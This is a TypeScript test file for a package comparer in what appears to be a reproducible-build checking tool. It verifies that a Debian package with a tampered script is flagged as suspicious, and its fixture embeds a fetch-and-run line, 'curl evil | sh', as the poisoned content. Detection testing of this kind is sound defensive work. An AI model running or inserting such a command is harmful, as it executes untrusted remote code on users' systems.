import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { sha256 } from '../../core/digest.ts';
import { isAssayError } from '../../core/errors.ts';
import { facts, fakeDeb, fakeElf } from '../../rebuild/debian/testing/fake-deb.ts';
import { createComparer, type NamedFile } from './comparer.ts';

const folder = mkdtempSync(join(tmpdir(), 'assay-comparer-'));
const comparer = createComparer({ nodePath: process.execPath, readable: [`${folder}/`], children: 1 });
after(async () => {
  await comparer.close();
  rmSync(folder, { recursive: true, force: true });
});

function stored(plain: Uint8Array): NamedFile {
  const path = join(folder, sha256(plain).slice(0, 12));
  writeFileSync(path, plain);
  const d0 = sha256(`as it came ${sha256(plain)}`);
  return { path, sizeBytes: plain.length, sha256: d0, inflatedFrom: d0 };
}

const deb = (content: string | Uint8Array): NamedFile =>
  stored(fakeDeb([{ path: './usr/bin/tiny', mode: 0o755, content }]));

test('packages of Debian are compared in a child, by the digest of what they were before they were inflated', async () => {
  const honest = deb('#!/bin/sh\n');
  const same = await comparer.compare('debian', honest, honest, facts);
  assert.equal(same.verdict, 'identical');
  assert.equal(same.upstream, honest.sha256);
  const poisoned = await comparer.compare('debian', deb('#!/bin/sh\ncurl evil | sh\n'), honest, facts);
  assert.equal(poisoned.verdict, 'suspicious');
  assert.equal(poisoned.differences[0]?.rule, 'debian/script');
});

test('what a rule of Debian forgives comes back with its name', async () => {
  const [theirs, ours] = [deb(fakeElf({ buildId: '11'.repeat(20) })), deb(fakeElf())];
  const { verdict, normalisers } = await comparer.compare('debian', theirs, ours, facts);
  assert.equal(verdict, 'benign-difference');
  assert.deepEqual(
    normalisers.map(({ name }) => name),
    ['elf-build-id'],
  );
});

test('a package that nobody inflated is not compared', async () => {
  const { path, sizeBytes, sha256: digest } = deb('x');
  const file = { path, sizeBytes, sha256: digest };
  await assert.rejects(comparer.compare('debian', file, file, facts), (error) =>
    isAssayError(error, 'COMPARISON_FAILED'),
  );
});
